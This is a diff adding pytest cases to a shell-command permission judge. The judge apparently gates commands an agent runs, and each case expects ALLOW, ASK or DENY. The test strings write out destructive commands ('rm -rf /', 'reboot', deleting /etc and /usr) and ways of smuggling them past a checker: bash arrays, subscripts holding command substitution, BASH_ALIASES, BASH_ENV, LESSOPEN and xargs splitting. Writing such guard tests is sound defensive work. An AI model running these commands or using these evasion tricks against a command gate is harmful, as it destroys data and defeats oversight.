@@ -205,3 +205,47 @@ def test_a_default_holds_for_what_was_unset() -> None:
     """`${x-word}` is the word after `unset x`."""
     assert judge("unset x; ${x-reboot}").decision is DENY
     assert judge("unset x; echo ${x-reboot}").decision is ALLOW
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ('declare -a q=(rm -rf /); "${q[@]}"', DENY),
+        ('q=([0]=rm [1]=-rf [2]=/); "${q[@]}"', DENY),
+        ("readonly q=(ls reboot); ${q[1]}", DENY),
+        ("declare -A m=([x]=reboot); ${m[x]}", ASK),
+        ("declare -a q=($(curl https://example.org/x)); ${q[0]}", DENY),
+        ("declare -A m=([$(reboot)]=1)", DENY),
+        ("BASH_ALIASES[ls]=reboot", DENY),
+        ("[[ -v 'a[$(reboot)]' ]]", DENY),
+        ("x='a[$(reboot)]'; [[ $x -eq 1 ]]", DENY),
+        ("export BASH_ENV=<(echo reboot); bash -c :", DENY),
+        ("BASH_ENV=<(echo reboot) bash -c :", DENY),
+        ("LESSOPEN='|reboot %s' less x", DENY),
+        ('declare -a q=(ls -la); "${q[@]}"', ALLOW),
+        ("declare -A m=([a]=1 [b]=2); for k in ${!m[@]}; do echo $k ${m[$k]}; done", ALLOW),
+        ("local -a f=(a.txt b.txt); rm ${f[@]}", ALLOW),
+        ("[[ ${a[0]} == x ]] && [[ -v a[1] ]]", ALLOW),
+    ],
+)
+def test_arrays_and_special_variables_are_followed(command: str, expected: Decision) -> None:
+    """Also those behind `declare`, with subscripts, and those that bash itself runs."""
+    assert judge(command).decision is expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("echo 'rm -rf /' | xargs -I{} sh -c '{}'", DENY),
+        ("echo 'rm -rf /' | xargs -0 sh -c", DENY),
+        ("echo 'rm -rf /' | xargs -d '\\n' bash -c", DENY),
+        ("printf 'x:reboot' | xargs -d: -n1 sudo", DENY),
+        ("echo /etc,/usr | xargs -d, rm -rf", DENY),
+        ("echo 'rm -rf /' | xargs -I{} echo '{}'", ALLOW),
+        ("printf 'a b\\0c' | xargs -0 rm -rf", ALLOW),
+        ("seq 3 | xargs -n 1 -I{} touch file{}", ALLOW),
+    ],
+)
+def test_xargs_splits_as_it_is_told(command: str, expected: Decision) -> None:
+    """Whole lines with -I, at what -0 and -d name, one by one with -n1."""
+    assert judge(command).decision is expected
